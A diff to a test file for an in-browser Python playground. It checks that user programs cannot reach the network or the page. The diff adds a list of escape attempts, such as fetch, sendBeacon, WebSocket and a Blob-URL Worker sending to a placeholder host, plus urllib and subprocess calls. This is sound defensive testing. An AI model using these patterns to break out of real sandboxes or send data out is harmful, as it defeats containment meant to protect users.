@@ -4,8 +4,6 @@ import json
 from base64 import urlsafe_b64encode
 from random import Random
 
-import pytest
-
 from tests.support.hostile_texts import WORDS
 
 ATTACKS = [
@@ -63,25 +61,29 @@ def test_hostile_labels_and_outputs_are_texts(playground):
     assert opened.page.script("return document.querySelectorAll('img').length") == 0
 
 
-@pytest.mark.parametrize("attempt", [
+OUT = [
     "js.fetch('https://elsewhere.example/' + 'secret')",
     "r = js.XMLHttpRequest.new()\nr.open('GET', 'https://elsewhere.example/', False)\nr.send()",
     "js.WebSocket.new('wss://elsewhere.example/')",
     "js.importScripts('https://elsewhere.example/a.js')",
     "js.eval('1 + 1')",
     "js.Worker.new('data:text/javascript,fetch(\"https://elsewhere.example/\")')",
+    "js.Worker.new(js.URL.createObjectURL(js.Blob.new(['fetch(\"https://elsewhere.example/\")'])))",
     "js.EventSource.new('https://elsewhere.example/')",
     "js.navigator.sendBeacon('https://elsewhere.example/', 'x')",
     "js.document.title",
     "js.localStorage.x",
     "import urllib.request\nurllib.request.urlopen('http://elsewhere.example/')",
-    "import subprocess\nsubprocess.run(['ls'])"])
-def test_a_program_reaches_neither_the_network_nor_the_page(playground, attempt):
+    "import subprocess\nsubprocess.run(['ls'])"]
+
+
+def test_a_program_reaches_neither_the_network_nor_the_page(playground):
     """Even one that the reader has started: what goes out is stopped by the page's policy, which binds its worker."""
     opened = playground("#lang=en&py=")
-    opened.run(f"import js\n{attempt}")
-    assert opened.problem()
-    opened.run("import time\ntime.sleep(0.3)")      # a request would be on its way
+    for attempt in OUT:
+        opened.run(f"import js\n{attempt}")
+        assert opened.problem(), attempt
+    opened.run("import time\ntime.sleep(0.5)")      # a request would be on its way
     assert opened.page.requests_outside() == []
 
 
